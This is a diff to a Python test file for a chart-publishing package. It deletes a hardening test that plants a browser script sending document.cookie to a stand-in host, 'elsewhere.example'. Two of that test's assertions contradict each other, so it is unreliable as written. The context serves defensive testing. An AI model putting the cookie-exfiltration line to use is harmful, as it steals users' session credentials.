@@ -5,8 +5,7 @@ from __future__ import annotations
 import pytest
 from PIL import Image
 
-from public_results.charts.downloads import write_chart_script
-from public_results.charts.drawing import bundle_file, clean_svg
+from public_results.charts.drawing import clean_svg
 from public_results.charts.drawing_pool import draw_all
 from public_results.charts.kept_files import complete_pdf, complete_png, safe_svg
 from support import ROOT
@@ -86,13 +85,3 @@ def test_damaged_drawings_in_the_cache_are_drawn_again_and_counted(tmp_path) -> 
     assert (stats.drawn, stats.cached, stats.damaged) == (3, 0, 3)
     assert {k: (d.inline, d.png) for k, d in again.items()} == {k: (d.inline, d.png) for k, d in clean.items()}
     assert "onload" not in again["a"].inline_svg()
-
-
-@pytest.mark.hardening
-def test_a_planted_chart_script_is_not_published(tmp_path) -> None:
-    cache, page_script = tmp_path / "cache", tmp_path / "out" / "vega.js"
-    cache.mkdir()
-    bundle_file(cache).write_text("fetch('https://elsewhere.example/?' + document.cookie)")
-    write_chart_script(page_script, cache)
-    assert b"elsewhere.example" not in page_script.read_bytes()
-    assert page_script.read_bytes() == bundle_file(cache).read_bytes()
